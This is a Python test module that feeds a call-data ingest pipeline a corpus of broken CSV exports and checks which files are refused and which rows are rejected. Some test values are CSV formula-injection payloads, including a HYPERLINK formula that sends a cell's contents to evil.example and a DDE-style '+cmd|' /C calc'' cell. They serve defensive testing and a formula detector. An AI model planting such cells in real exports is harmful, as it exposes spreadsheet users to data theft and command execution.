"""Bad-input corpus: every kind of broken export the spec's Landing section names.

Each case builds a tiny landing directory, ingests it into a fresh warehouse file and checks
the outcome the spec fixes for it (inputs-and-outputs.md, "Landing directory"): the file is
**refused** (a ledger row with the reason, nothing loaded), a row is **rejected** (a row in
`raw.rejected_rows` with the reason and the original text), or it **loads**. For every case,
every ledger row reconciles (rows read = rows loaded + rows rejected) and the counts agree
with what a fresh read-only connection finds in `raw.load_ledger`, `raw.rejected_rows` and
the data tables. Every case also carries a good control file, which must still load.

(tests/test_ingest.py covers the ledger mechanics: re-delivery, correction, retraction,
load order, re-keying; this module is the corpus of inputs.)
"""

from __future__ import annotations

import copy
import csv
import gzip
import io
import logging
import os
import re
import stat
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path

import duckdb
import pytest

from orchestration.config import load_config
from orchestration.ingest import ingest_landing
from orchestration.ingest.loader import ENTITY_TABLES
from orchestration.ingest.schema import DATA_TABLES

KEY = b"bad-inputs-test-key"
COLUMNS = [
    "call_id", "parent_call_id", "direction", "started_at", "answered_at", "ended_at",
    "from_number", "to_number", "status", "queue", "ivr_selection", "agent_id",
    "disposition", "site", "talk_seconds",
]  # fmt: skip
CONTACT_COLUMNS = [
    "contact_id", "phone", "mobile_phone", "email", "created_at", "updated_at", "lifecycle",
    "owner",
]  # fmt: skip
CONTROL_FILE = "telephony/zz_control.csv"
UNRECOGNIZED = "unrecognized telephony layout"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")'


# -- building files -----------------------------------------------------------------------


def line(fields: list[str], delimiter: str = ",") -> str:
    """One CSV record as a spreadsheet or PBX would write it (minimal quoting), no line end."""
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="").writerow(fields)
    return out.getvalue()


def leg(call_id: str, **overrides: str) -> dict[str, str]:
    values = {
        "call_id": call_id,
        "parent_call_id": "",
        "direction": "inbound",
        "started_at": "2025-01-06 09:00:00",
        "answered_at": "",
        "ended_at": "2025-01-06 09:05:00",
        "from_number": "(917) 555-0142",
        "to_number": "+12125550100",
        "status": "no_answer",
        "queue": "sales",
        "ivr_selection": "1",
        "agent_id": "",
        "disposition": "",
        "site": "",
        "talk_seconds": "",
    }
    values.update(overrides)
    return values


def legs_csv(*legs: dict[str, str], columns: list[str] = COLUMNS, eol: str = "\n") -> str:
    rows = [line(columns)] + [line([lg.get(c, "") for c in columns]) for lg in legs]
    return eol.join(rows) + eol


def contacts_csv(*rows: list[str], columns: list[str] = CONTACT_COLUMNS) -> str:
    return "\n".join([line(columns)] + [line(r) for r in rows]) + "\n"


def contact(contact_id: str, phone: str = "+12125550177", created: str = "2025-01-02") -> list[str]:
    return [contact_id, phone, "", f"{contact_id}@example.com", created, "", "lead", "ann"]


class Special:
    """A landing entry that is not plain file content."""

    def __init__(self, kind: str, content: bytes = b""):
        self.kind = kind
        self.content = content


DIRECTORY = Special("directory")


def unreadable(content: str) -> Special:
    return Special("unreadable", content.encode())


# -- expectations -------------------------------------------------------------------------


@dataclass
class Expect:
    status: str  # loaded | refused
    reason: str | None = None  # ledger reason (prefix); None = no reason
    rows: tuple[int, int, int] = (0, 0, 0)  # read, loaded, rejected
    rejects: dict[int, str] = field(default_factory=dict)  # line number -> reason (prefix)


def loaded(read: int, rejects: dict[int, str] | None = None) -> Expect:
    rejects = rejects or {}
    return Expect("loaded", None, (read, read - len(rejects), len(rejects)), rejects)


def refused(reason: str) -> Expect:
    return Expect("refused", reason)


@dataclass
class Case:
    id: str
    files: dict[str, str | bytes | Special]
    expect: dict[str, Expect]
    check: Callable[[duckdb.DuckDBPyConnection], None] | None = None
    log: str | None = None  # a warning the ingest must log


def leg_row(con: duckdb.DuckDBPyConnection, call_id: str) -> dict:
    cur = con.execute("select * from raw.telephony_legs where call_id = ?", [call_id])
    names = [d[0] for d in cur.description]
    rows = cur.fetchall()
    assert len(rows) == 1, (call_id, rows)
    return dict(zip(names, rows[0], strict=True))


def reject_texts(con: duckdb.DuckDBPyConnection) -> dict[int, str]:
    rows = con.execute(
        "select line_number, raw_text from raw.rejected_rows where file <> ?", [CONTROL_FILE]
    ).fetchall()
    return dict(rows)


# -- checks of loaded values --------------------------------------------------------------


def _check_bom(con):
    row = leg_row(con, "b1")  # `call_id` was recognized although the file starts with a BOM
    assert row["status_normalized"] == "no_answer"


def _check_cp1252(con):
    row = leg_row(con, "w1")
    assert row["disposition"] == "Café – rappel “urgent” €"
    assert row["agent_id"] == "Zoë"


def _check_latin1(con):
    row = leg_row(con, "l1")
    assert row["disposition"] == "Müller ß ñ"
    # 0x81 is undefined in CP1252: read as its Latin-1 code point, never dropped
    assert row["agent_id"] == "a\x81b"


def _check_utf16(con):
    row = leg_row(con, "u16")
    assert row["disposition"] == "Zoë – rappel" and row["talk_seconds"] == ""


def _check_crlf(con):
    row = leg_row(con, "r1")
    assert row["talk_seconds"] == "" and row["ended_at"] == "2025-01-06 09:05:00"
    [text] = reject_texts(con).values()
    assert "\r" not in text and "\n" not in text
    rejects = con.execute("select line_number from raw.rejected_rows where file <> ?", [CONTROL_FILE])
    assert rejects.fetchall() == [(3,)]


def _check_extra_columns(con):
    row = leg_row(con, "x1")
    assert row["queue"] == "sales" and row["status_normalized"] == "no_answer"


def _check_missing_optional(con):
    row = leg_row(con, "m1")
    assert (row["queue"], row["site"], row["talk_seconds"], row["parent_call_id"]) == ("", "", "", "")
    assert row["site_resolved"] == "nyc"  # the telephony_sources / default site


def _check_reordered(con):
    row = leg_row(con, "o1")
    assert row["status"] == "busy" and row["queue"] == "support"
    assert row["from_number_e164"] == "+19175550142"
    assert row["started_at_utc"] == datetime(2025, 1, 6, 14, 0)


def _check_status_variants(con):
    got = dict(con.execute("select call_id, status_normalized from raw.telephony_legs").fetchall())
    assert got["v1"] == "no_answer" and got["v2"] == "no_answer" and got["v3"] == "voicemail"


def _check_dst(con):
    # 01:30 on 2025-11-02 happens twice in New York: the earlier instant (EDT, UTC-4)
    assert leg_row(con, "fold")["started_at_utc"] == datetime(2025, 11, 2, 5, 30)
    # a time in the gap hour with an explicit offset is a real instant
    assert leg_row(con, "offset")["started_at_utc"] == datetime(2025, 3, 9, 7, 30)


def _check_letters(con):
    row = leg_row(con, "n1")
    assert row["from_number"] == "1-800-FLOWERS"
    assert (row["from_number_e164"], row["from_number_is_valid"]) == (None, False)
    assert row["from_number_key"] and row["from_number_is_unknown"] is False
    row = leg_row(con, "n2")
    assert row["from_number"] == "212555O142"  # letter O for zero
    assert row["from_number_is_valid"] is False


def _check_forty_digits(con):
    row = leg_row(con, "d40")
    assert row["from_number"] == "1234567890" * 4  # as text: never a number type
    assert row["from_number_digits"] == 40
    assert (row["from_number_e164"], row["from_number_is_valid"]) == (None, False)
    assert leg_row(con, "d0")["from_number"] == "0012125550142"  # leading zeros survive


def _check_formula(con):
    row = leg_row(con, "f1")
    assert row["disposition"] == FORMULA
    assert row["queue"] == "@SUM(A1:A9)"
    assert row["agent_id"] == "-2+3"
    assert row["ivr_selection"] == "+cmd|' /C calc'!A0"
    row = leg_row(con, "f2")
    assert row["from_number"] == "=1+1"
    assert row["from_number_is_valid"] is False


def _check_long_field(con):
    row = leg_row(con, "edge")
    assert len(row["disposition"].encode()) == 65536
    [text] = reject_texts(con).values()
    assert len(text) > 65536  # the rejected row's raw text is kept whole


def _check_superseded(con):
    assert leg_row(con, "s1")["status_normalized"] == "busy"  # the later copy wins
    assert leg_row(con, "s1")["_line"] == 4


def _check_contacts_superseded(con):
    rows = con.execute("select contact_id, phone from raw.crm_contacts").fetchall()
    assert rows == [("k1", "+12125550199")]


def _check_gzip(con):
    assert leg_row(con, "g1")["_file"] == "telephony/calls.csv.gz"


def _check_multiline(con):
    row = leg_row(con, "q2")
    assert row["disposition"] == "called back,\nleft message" and row["_line"] == 2


# -- the corpus ---------------------------------------------------------------------------

GOOD = legs_csv(leg("a1"), leg("a2"))
HEADER = line(COLUMNS) + "\n"

CASES: list[Case] = [
    # ---- refused files ----
    Case("empty-file", {"telephony/calls.csv": b""}, {"telephony/calls.csv": refused("empty file")}),
    Case(
        "empty-crm-file",
        {"crm/contacts_2025-01-12.csv": b""},
        {"crm/contacts_2025-01-12.csv": refused("empty file")},
    ),
    Case(
        "only-blank-lines",
        {"telephony/calls.csv": "\n\r\n\n"},
        {"telephony/calls.csv": refused("no recognizable header (no content)")},
    ),
    Case(
        "wrong-delimiter-semicolon",
        {"telephony/calls.csv": legs_csv(leg("a1")).replace(",", ";")},
        {"telephony/calls.csv": refused(UNRECOGNIZED)},
    ),
    Case(
        "wrong-delimiter-tab-crm",
        {"crm/contacts_x.csv": contacts_csv(contact("k1")).replace(",", "\t")},
        {"crm/contacts_x.csv": refused("no recognizable header")},
    ),
    Case(
        "no-header",
        {"telephony/calls.csv": "\n".join(line(list(leg("a1").values())) for _ in range(2)) + "\n"},
        {"telephony/calls.csv": refused(UNRECOGNIZED)},
    ),
    Case(
        "missing-required-column",
        {"telephony/calls.csv": legs_csv(leg("a1"), columns=[c for c in COLUMNS if c != "ended_at"])},
        {"telephony/calls.csv": refused("missing required column 'ended_at' (generic telephony format)")},
    ),
    Case(
        "missing-required-crm-column",
        {"crm/contacts_x.csv": "contact_id,phone\nk1,+12125550177\n"},
        {"crm/contacts_x.csv": refused("missing required column 'created_at' (contacts)")},
    ),
    Case(
        "gzip-that-is-not-gzip",
        {"telephony/calls.csv.gz": GOOD},
        {"telephony/calls.csv.gz": refused("not gzip: the name ends in .gz but the content is not gzip")},
    ),
    Case(
        "gzip-truncated",
        {"telephony/calls.csv.gz": gzip.compress(GOOD.encode())[:25]},
        {"telephony/calls.csv.gz": refused("corrupt gzip")},
    ),
    Case(
        "gzip-under-csv-name",
        {"telephony/calls.csv": gzip.compress(GOOD.encode())},
        {"telephony/calls.csv": refused("gzip-compressed content in a file whose name does not end in .gz")},
    ),
    Case(
        "gzip-of-empty",
        {"telephony/calls.csv.gz": gzip.compress(b"")},
        {"telephony/calls.csv.gz": refused("empty file (after decompression)")},
    ),
    Case(
        "directory-named-like-a-file",
        {"telephony/calls.csv": DIRECTORY, "crm/contacts_dir.csv": DIRECTORY},
        {
            "telephony/calls.csv": refused("unreadable: is a directory"),
            "crm/contacts_dir.csv": refused("unreadable: is a directory"),
        },
    ),
    Case(
        "unreadable-file",
        {"telephony/calls.csv": unreadable(GOOD)},
        {"telephony/calls.csv": refused("unreadable: Permission denied")},
    ),
    Case(
        "unsupported-file-type",
        {"telephony/calls.xlsx": b"PK\x03\x04", "crm/deals.csv": "deal_id\n1\n"},
        {
            "telephony/calls.xlsx": refused("unsupported file type under telephony/"),
            "crm/deals.csv": refused("unrecognized crm export name"),
        },
    ),
    Case(
        "binary-garbage",
        {"telephony/calls.csv": bytes(range(256)) * 4},
        {"telephony/calls.csv": refused("")},  # any reason, but refused (checked below)
    ),
    # ---- header only ----
    Case("header-only-new-name", {"telephony/calls.csv": HEADER}, {"telephony/calls.csv": loaded(0)}),
    Case(
        "header-only-crm",
        {"crm/contacts_x.csv": line(CONTACT_COLUMNS) + "\n"},
        {"crm/contacts_x.csv": loaded(0)},
    ),
    # ---- encodings and line ends: loaded ----
    Case("bom", {"telephony/calls.csv": b"\xef\xbb\xbf" + legs_csv(leg("b1")).encode()},
         {"telephony/calls.csv": loaded(1)}, check=_check_bom),
    Case(
        "cp1252-bytes",
        {"telephony/calls.csv": legs_csv(
            leg("w1", disposition="Café – rappel “urgent” €", agent_id="Zoë")
        ).encode("cp1252")},
        {"telephony/calls.csv": loaded(1)},
        check=_check_cp1252,
    ),
    Case(
        "latin1-bytes",
        {"telephony/calls.csv": legs_csv(leg("l1", disposition="Müller ß ñ", agent_id="a\x81b"))
         .encode("latin-1")},
        {"telephony/calls.csv": loaded(1)},
        check=_check_latin1,
    ),
    Case(
        "utf16-with-bom",  # Excel's "Unicode text" export
        {"telephony/calls.csv": legs_csv(leg("u16", disposition="Zoë – rappel"), eol="\r\n")
         .encode("utf-16")},
        {"telephony/calls.csv": loaded(1)},
        check=_check_utf16,
    ),
    Case(
        "utf16-without-bom",  # no way to tell it from bytes: no recognizable header
        {"telephony/calls.csv": legs_csv(leg("u16")).encode("utf-16-le")},
        {"telephony/calls.csv": refused(UNRECOGNIZED)},
    ),
    Case(
        "crlf",
        {"telephony/calls.csv": legs_csv(leg("r1"), leg("r2", status="ringing"), eol="\r\n")},
        {"telephony/calls.csv": loaded(2, {3: "unknown status 'ringing'"})},
        check=_check_crlf,
    ),
    Case(
        "blank-lines-between-records",
        {"telephony/calls.csv": HEADER + "\n" + line(list(leg("a1").values())) + "\n\n\n"
         + line(list(leg("a2").values())) + "\n\n"},
        {"telephony/calls.csv": loaded(2)},
    ),
    Case(
        "multiline-quoted-field",
        {"telephony/calls.csv": legs_csv(leg("q2", disposition="called back,\nleft message"),
                                         leg("q3"))},
        {"telephony/calls.csv": loaded(2)},
        check=_check_multiline,
    ),
    # ---- columns ----
    Case(
        "extra-columns",
        {"telephony/calls.csv": legs_csv(leg("x1", crm_note="hi", recording_url="http://r"),
                                         columns=[*COLUMNS, "crm_note", "recording_url"])},
        {"telephony/calls.csv": loaded(1)},
        check=_check_extra_columns,
        log="ignoring extra columns: crm_note, recording_url",
    ),
    Case(
        "missing-optional-columns",
        {"telephony/calls.csv": legs_csv(
            leg("m1"),
            columns=[c for c in COLUMNS if c not in ("parent_call_id", "queue", "site", "talk_seconds")],
        )},
        {"telephony/calls.csv": loaded(1)},
        check=_check_missing_optional,
    ),
    Case(
        "reordered-columns-and-header-case",
        {"telephony/calls.csv": legs_csv(
            leg("o1", status="busy", queue="support"), columns=list(reversed(COLUMNS))
        ).replace("call_id,", " Call_ID ,", 1).replace("status,", "STATUS,", 1)},
        {"telephony/calls.csv": loaded(1)},
        check=_check_reordered,
    ),
    Case(
        "extra-and-missing-fields-in-rows",
        {"telephony/calls.csv": HEADER
         + line(list(leg("e1").values()) + ["surplus"]) + "\n"
         + line(list(leg("e2").values())[:-1]) + "\n"
         + line(list(leg("e3").values())) + "\n"},
        {"telephony/calls.csv": loaded(3, {
            2: "wrong field count: expected 15 fields, got 16",
            3: "wrong field count: expected 15 fields, got 14",
        })},
    ),
    Case(
        "truncated-last-line",
        {"telephony/calls.csv": legs_csv(leg("t1"), leg("t2"))
         + line(list(leg("t3").values()))[:40]},  # cut off, no line end
        {"telephony/calls.csv": loaded(3, {4: "wrong field count: expected 15 fields, got"})},
    ),
    Case(
        "truncated-inside-quotes",
        {"telephony/calls.csv": legs_csv(leg("t1"))
         + line(list(leg("t2", disposition="said, hello").values()))[:-12]},
        {"telephony/calls.csv": loaded(2, {3: "truncated last line (unterminated quoted field)"})},
    ),
    # ---- row values: rejected ----
    Case(
        "unknown-status-and-variants",
        {"telephony/calls.csv": legs_csv(
            leg("u1", status="ringing"), leg("v1", status="No-Answer"),
            leg("v2", status=" NO ANSWER "), leg("v3", status="VoiceMail"), leg("u2", status=""),
        )},
        {"telephony/calls.csv": loaded(5, {2: "unknown status 'ringing'", 6: "unknown status ''"})},
        check=_check_status_variants,
    ),
    Case(
        "unknown-direction-and-site",
        {"telephony/calls.csv": legs_csv(leg("u1", direction="sideways"), leg("u2", site="paris"))},
        {"telephony/calls.csv": loaded(2, {2: "unknown direction 'sideways'", 3: "unknown site 'paris'"})},
    ),
    Case(
        "unparseable-timestamps",
        {"telephony/calls.csv": legs_csv(
            leg("p1", started_at="yesterday"),
            leg("p2", started_at="2025-13-01 09:00:00"),
            leg("p3", ended_at="06/01/2025 09:05"),
            leg("p4", answered_at="09:01", status="answered"),
            leg("p5", started_at=""),
            leg("p6", started_at="99999-01-06 09:00:00"),
            leg("p7", started_at="9999-12-31 23:59:00", ended_at="9999-12-31 23:59:59"),
            leg("p8", started_at="2025-01-06T09:00:00+25:00"),
        )},
        {"telephony/calls.csv": loaded(8, {
            2: "unparseable timestamp in started_at: 'yesterday'",
            3: "unparseable timestamp in started_at: '2025-13-01 09:00:00'",
            4: "unparseable timestamp in ended_at: '06/01/2025 09:05'",
            5: "unparseable timestamp in answered_at: '09:01'",
            6: "missing started_at",
            7: "unparseable timestamp in started_at",
            8: "unparseable timestamp in started_at: '9999-12-31 23:59:00' (out of range)",
            9: "unparseable timestamp in started_at: '2025-01-06T09:00:00+25:00'",
        })},
    ),
    Case(
        "dst-gap-and-overlap",
        {"telephony/calls.csv": legs_csv(
            leg("gap1", started_at="2025-03-09 02:30:00", ended_at="2025-03-09 03:10:00"),
            leg("gap2", started_at="2025-03-09 01:50:00", ended_at="2025-03-09 02:00:00"),
            leg("fold", started_at="2025-11-02 01:30:00", ended_at="2025-11-02 01:40:00"),
            leg("offset", started_at="2025-03-09T02:30:00-05:00", ended_at="2025-03-09T03:40:00-04:00"),
        )},
        {"telephony/calls.csv": loaded(4, {
            2: "local time in DST gap in started_at: '2025-03-09 02:30:00' (America/New_York)",
            3: "local time in DST gap in ended_at: '2025-03-09 02:00:00'",
        })},
        check=_check_dst,
    ),
    Case(
        "negative-and-absurd-durations",
        {"telephony/calls.csv": legs_csv(
            leg("d1", status="answered", answered_at="2025-01-06 09:01:00", talk_seconds="-5"),
            leg("d2", ended_at="2025-01-09 09:00:00"),
            leg("d3", status="answered", answered_at="2025-01-06 09:01:00", talk_seconds="1e12"),
            leg("d4", status="answered", answered_at="2025-01-06 09:01:00", talk_seconds="nan"),
            leg("d5", status="answered", answered_at="2025-01-06 09:01:00", talk_seconds="12 s"),
            leg("ok", ended_at="2025-01-07 09:00:00"),  # exactly max_call_hours: allowed
        )},
        {"telephony/calls.csv": loaded(6, {
            2: "negative talk_seconds: '-5'",
            3: "duration over max_call_hours (24)",
            4: "talk_seconds over max_call_hours (24)",
            5: "unparseable talk_seconds: 'nan'",
            6: "unparseable talk_seconds: '12 s'",
        })},
    ),
    Case(
        "ends-before-starts",
        {"telephony/calls.csv": legs_csv(
            leg("e1", started_at="2025-01-06 09:05:00", ended_at="2025-01-06 09:00:00"),
            leg("e2", status="answered", answered_at="2025-01-06 08:59:59"),
            leg("e3", status="answered", answered_at="2025-01-06 09:05:01"),
            leg("e4", started_at="2025-01-06T09:00:00Z", ended_at="2025-01-06 04:05:00"),
        )},
        {"telephony/calls.csv": loaded(4, {
            2: "ended_at before started_at",
            3: "answered_at outside [started_at, ended_at]",
            4: "answered_at outside [started_at, ended_at]",
        })},  # e4: 09:00Z = 04:00 New York, so 04:05 local ends after it: loaded
    ),
    Case(
        "crm-negative-duration-and-interval",
        {
            "crm/activities_x.csv": "activity_id,contact_id,activity_type,logged_at,phone,"
            "pbx_call_id,disposition,duration_seconds\n"
            "a1,k1,inbound_call,2025-01-06T09:00:00Z,+12125550177,c1,connected,-1\n"
            "a2,k1,inbound_call,2025-01-06T09:00:00Z,+12125550177,c2,connected,90000\n"
            "a3,k1,inbound_call,2025-01-06T09:00:00Z,+12125550177,c3,connected,60\n",
            "marketing/tracking_numbers.csv": "tracking_number,campaign,source,channel,"
            "default_intent,valid_from,valid_to\n"
            "+12125550150,brand,google,paid,,2025-02-01,2025-01-01\n"
            "+12125550151,brand,google,paid,,2025-01-01,\n",
        },
        {
            "crm/activities_x.csv": loaded(3, {
                2: "negative duration_seconds: '-1'",
                3: "duration_seconds over max_call_hours (24)",
            }),
            "marketing/tracking_numbers.csv": loaded(2, {2: "valid_to before valid_from"}),
        },
    ),
    Case(
        "missing-ids",
        {
            "telephony/calls.csv": legs_csv(leg(""), leg("  "), leg("i1")),
            "crm/contacts_x.csv": contacts_csv(contact(""), contact("k1")),
        },
        {
            "telephony/calls.csv": loaded(3, {2: "missing call_id", 3: "missing call_id"}),
            "crm/contacts_x.csv": loaded(2, {2: "missing contact_id"}),
        },
    ),
    # ---- odd but loadable values ----
    Case(
        "numbers-with-letters",
        {"telephony/calls.csv": legs_csv(leg("n1", from_number="1-800-FLOWERS"),
                                         leg("n2", from_number="212555O142"))},
        {"telephony/calls.csv": loaded(2)},
        check=_check_letters,
    ),
    Case(
        "forty-digit-numbers",
        {"telephony/calls.csv": legs_csv(leg("d40", from_number="1234567890" * 4),
                                         leg("d0", from_number="0012125550142"))},
        {"telephony/calls.csv": loaded(2)},
        check=_check_forty_digits,
    ),
    Case(
        "formula-looking-cells",
        {"telephony/calls.csv": legs_csv(
            leg("f1", disposition=FORMULA, queue="@SUM(A1:A9)", agent_id="-2+3",
                ivr_selection="+cmd|' /C calc'!A0"),
            leg("f2", from_number="=1+1"),
        )},
        {"telephony/calls.csv": loaded(2)},
        check=_check_formula,
    ),
    Case(
        "very-long-fields",
        {"telephony/calls.csv": legs_csv(
            leg("big", disposition="x" * 65537),
            leg("wide", agent_id="é" * 32769),  # 65538 bytes in UTF-8, 32769 characters
            leg("edge", disposition="y" * 65536),  # exactly max_field_bytes: allowed
        )},
        {"telephony/calls.csv": loaded(3, {
            2: "field over max_field_bytes (65536): disposition has 65537 bytes",
            3: "field over max_field_bytes (65536): agent_id has 65538 bytes",
        })},
        check=None,  # replaced below (two rejects)
    ),
    Case(
        "duplicate-ids-in-one-file",
        {"telephony/calls.csv": legs_csv(
            leg("s1", status="no_answer"), leg("dup"), leg("s1", status="busy"), leg("dup"),
        )},
        {"telephony/calls.csv": loaded(4, {2: "superseded within file", 5: "duplicate within file"})},
        check=_check_superseded,
    ),
    Case(
        "duplicate-crm-ids-in-one-file",
        {"crm/contacts_x.csv": contacts_csv(contact("k1"), contact("k1", phone="+12125550199"))},
        {"crm/contacts_x.csv": loaded(2, {2: "superseded within file"})},
        check=_check_contacts_superseded,
    ),
    Case(
        "valid-gzip",
        {"telephony/calls.csv.gz": gzip.compress(legs_csv(leg("g1")).encode())},
        {"telephony/calls.csv.gz": loaded(1)},
        check=_check_gzip,
    ),
]


def _check_long_fields(con):
    assert len(leg_row(con, "edge")["disposition"]) == 65536
    texts = reject_texts(con)
    assert len(texts[2]) > 65537 and len(texts[3]) > 32769  # raw text kept whole


CASES[[c.id for c in CASES].index("very-long-fields")].check = _check_long_fields


# -- running a case -----------------------------------------------------------------------


def _build(landing: Path, case: Case, monkeypatch) -> list[Path]:
    """Write the case's files (plus the control file); returns files made unreadable by mode."""
    chmodded: list[Path] = []
    files = dict(case.files)
    files[CONTROL_FILE] = legs_csv(leg("control-1"), leg("control-2"))
    for rel, content in files.items():
        path = landing / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Special) and content.kind == "directory":
            path.mkdir()
            (path / "inner.csv").write_text(GOOD)
            continue
        if isinstance(content, Special) and content.kind == "unreadable":
            path.write_bytes(content.content)
            if os.geteuid() == 0:  # root reads whatever the mode: simulate the failure
                real = Path.read_bytes

                def read_bytes(self: Path, _target=path, _real=real) -> bytes:
                    if self == _target:
                        raise PermissionError(13, "Permission denied", str(self))
                    return _real(self)

                monkeypatch.setattr(Path, "read_bytes", read_bytes)
            else:
                path.chmod(0)
                chmodded.append(path)
            continue
        path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    return chmodded


def _reconcile(warehouse: Path) -> list[dict]:
    """The ledger as BI would query it, with each row's counts recomputed from the tables."""
    union = " union all ".join(f"select _load_id from raw.{t}" for t in DATA_TABLES)
    with duckdb.connect(str(warehouse), read_only=True) as con:
        cur = con.execute(
            f"""
            with data_rows as (select _load_id as load_id, count(*) as n from ({union}) group by 1),
                 rejects as (select load_id, count(*) as n from raw.rejected_rows group by 1)
            select l.file, l.status, l.reason, l.entity, l.rows_read, l.rows_loaded,
                   l.rows_rejected, coalesce(d.n, 0) as rows_in_table,
                   coalesce(r.n, 0) as rows_in_rejects
            from raw.load_ledger as l
            left join data_rows as d using (load_id)
            left join rejects as r using (load_id)
            order by l.load_seq
            """
        )
        names = [d[0] for d in cur.description]
        return [dict(zip(names, row, strict=True)) for row in cur.fetchall()]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input(case: Case, tmp_path, monkeypatch, caplog):
    landing = tmp_path / "landing"
    landing.mkdir()
    chmodded = _build(landing, case, monkeypatch)
    warehouse = tmp_path / "warehouse.duckdb"
    config = copy.deepcopy(load_config())
    caplog.set_level(logging.INFO, logger="orchestration.ingest")
    try:
        with duckdb.connect(str(warehouse)) as con:
            summary = ingest_landing(con, landing, config, KEY)
            if case.check is not None:
                case.check(con)
    finally:
        for path in chmodded:
            path.chmod(stat.S_IRUSR | stat.S_IWUSR)
    monkeypatch.undo()

    ledger = _reconcile(warehouse)
    by_file = {row["file"]: row for row in ledger}
    # every ledger row reconciles, and the tables hold exactly what it says
    for row in ledger:
        assert row["rows_read"] == row["rows_loaded"] + row["rows_rejected"], row
        assert row["rows_in_rejects"] == row["rows_rejected"], row
        if row["status"] == "loaded":
            assert row["rows_in_table"] == row["rows_loaded"], row
        else:
            assert (row["rows_read"], row["rows_in_table"], row["rows_in_rejects"]) == (0, 0, 0)
    # the other files still load
    assert by_file[CONTROL_FILE]["status"] == "loaded"
    assert by_file[CONTROL_FILE]["rows_loaded"] == 2
    assert set(by_file) == {*case.expect, CONTROL_FILE}

    expected_refusals = {f for f, e in case.expect.items() if e.status == "refused"}
    assert {f for f, _ in summary.files_refused} == expected_refusals
    for rel, expect in case.expect.items():
        row = by_file[rel]
        assert row["status"] == expect.status, row
        if expect.reason is None:
            assert row["reason"] is None, row
        else:
            assert row["reason"] and row["reason"].startswith(expect.reason), row
        assert (row["rows_read"], row["rows_loaded"], row["rows_rejected"]) == expect.rows, row
        if row["entity"] is not None and expect.status == "loaded":
            assert ENTITY_TABLES[row["entity"]]
        with duckdb.connect(str(warehouse), read_only=True) as con:
            got = dict(
                con.execute(
                    "select line_number, reason from raw.rejected_rows where file = ?", [rel]
                ).fetchall()
            )
        assert set(got) == set(expect.rejects), (rel, got)
        for number, reason in expect.rejects.items():
            assert got[number].startswith(reason), (rel, number, got[number])
    if case.log:
        assert case.log in caplog.text


def test_corpus_is_large_enough():
    kinds = {c.id for c in CASES}
    assert len(kinds) >= 25
    reasons = {
        e.reason.split(":")[0]
        for c in CASES
        for e in c.expect.values()
        if e.status == "refused" and e.reason
    }
    assert len(reasons) >= 8
    assert sum(len(e.rejects) for c in CASES for e in c.expect.values()) >= 25


# -- CSVs the project writes ----------------------------------------------------------------
#
# The project writes no CSV for people to open in a spreadsheet (the report is HTML and PNG;
# BI reads the DuckDB file). It writes CSV in three places, none of which may be escaped,
# because an escaping prefix would become part of the value read back:
# - `ringledger generate`: sample *exports*, imitating what a PBX or CRM writes (the ingest
#   must see them exactly as a real export; E.164 numbers start with `+` by definition);
# - `ringledger holidays`: the holidays seed (dbt reads it; names from the holidays package);
# - the merged seed directory (byte copies of the user's own configuration files).
# So instead of escaping, this test checks that what they write carries no formula-looking
# cell: nothing starts with `=`, `@`, a tab or a carriage return, and a leading `+` or `-`
# only starts a phone number, a signed number or an ISO time offset.

_FORMULA_START = ("=", "@", "\t", "\r")
_SIGNED_OK = re.compile(r"^[+-][\d\s().-]+$")


def _formula_cells(path: Path) -> list[tuple[str, int, str]]:
    text = path.read_bytes().decode("utf-8", errors="replace")
    bad = []
    for number, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
        for cell in row:
            if cell.startswith(_FORMULA_START) or (
                cell.startswith(("+", "-")) and not _SIGNED_OK.match(cell)
            ):
                bad.append((path.name, number, cell))
    return bad


def test_generated_exports_hold_no_formula_cells(tmp_path):
    from orchestration.generator import generate

    generate(tmp_path / "landing", days=7, calls_per_day=30, seed=3,
             inject=["malformed-rows", "dirty-numbers"])
    files = sorted((tmp_path / "landing").rglob("*.csv"))
    assert files
    assert [cell for path in files for cell in _formula_cells(path)] == []


def test_holidays_seed_holds_no_formula_cells(tmp_path):
    from orchestration.holiday_calendar import write_holidays_seed

    target = tmp_path / "holidays.csv"
    assert write_holidays_seed(load_config(), range(2024, 2027), target) > 0
    assert _formula_cells(target) == []


def test_formula_detector_catches_formulas(tmp_path):
    path = tmp_path / "x.csv"
    path.write_text(f'a,b\n"{FORMULA.replace(chr(34), chr(34) * 2)}",+12125550100\n@SUM(1),-3\n+cmd,x\n')
    assert [c for _, _, c in _formula_cells(path)] == [FORMULA, "@SUM(1)", "+cmd"]
